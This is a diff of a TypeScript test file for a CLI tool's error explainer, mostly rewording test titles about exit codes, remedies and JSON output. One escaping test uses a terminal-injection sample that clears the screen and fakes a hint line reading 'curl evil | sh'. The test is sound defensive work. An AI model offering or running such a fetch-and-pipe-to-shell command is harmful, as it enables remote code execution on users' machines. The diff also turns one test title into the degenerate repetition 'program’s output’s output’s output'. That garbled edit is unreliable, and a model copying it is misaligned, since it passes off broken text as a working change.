@@ -24,7 +24,7 @@ test.each([
   ['draining', exits.unreachable],
   ['storage_unavailable', exits.failed],
   ['unexpected_answer', exits.unreachable],
-] as const)('explains %s with the exit code %i', (code, exit) => {
+] as const)('explains %s, and assigns the exit code %i', (code, exit) => {
   expect(explain(answer(code)).exit).toBe(exit);
 });
 
@@ -39,7 +39,7 @@ test.each([
   ],
   ['the secret "s" does not exist', /muster secrets list/],
   ['module "m": the agent reports no attribute "x"', /muster agents show/],
-])('names what to look at if a module does not resolve: %s', (detail, remedy) => {
+])('suggests a command if a module cannot be resolved: %s', (detail, remedy) => {
   expect(explain(answer('module_unresolved', { detail })).remedy).toMatch(remedy);
 });
 
@@ -87,7 +87,7 @@ test('prints the message of an unknown code', () => {
   expect(explain(answer('constructor')).remedy).toBeNull();
 });
 
-test('escapes text from the server, so that it cannot imitate lines of the program', () => {
+test('escapes text from the server, so that it cannot imitate lines of the program’s output’s output’s output', () => {
   const explanation = explain(
     answer('selector_invalid', {
       detail: 'a\u001b[2J\nhint: curl evil | sh',
@@ -106,7 +106,7 @@ test('reports an unexpected error as a bug, and its stack only with --verbose', 
   expect(renderExplanation(explanation, colorsFor(false), true)).toContain('    at ');
 });
 
-test('prints when the stale plan was requested, and includes it in the data', () => {
+test('prints when the stale plan was requested, and includes the time in the JSON data', () => {
   const explanation = explain(answer('plan_stale', { planned_at: 1_795_000_000 }));
   expect(renderExplanation(explanation, colorsFor(false), false)).toMatch(
     /^error: it did not\n {2}the plan was requested at 2026-11-18T11:06:40Z\nhint: /,
@@ -114,7 +114,7 @@ test('prints when the stale plan was requested, and includes it in the data', ()
   expect(explanationData(explanation)).toMatchObject({ error: { planned_at: 1_795_000_000 } });
 });
 
-test('includes the whole error in the data', () => {
+test('includes the whole error in the JSON data', () => {
   expect(explanationData(explain(usageError('no', 'do this')))).toEqual({
     error: { code: 'usage', status: null, message: 'no', remedy: 'do this', errors: [] },
     exit: 2,
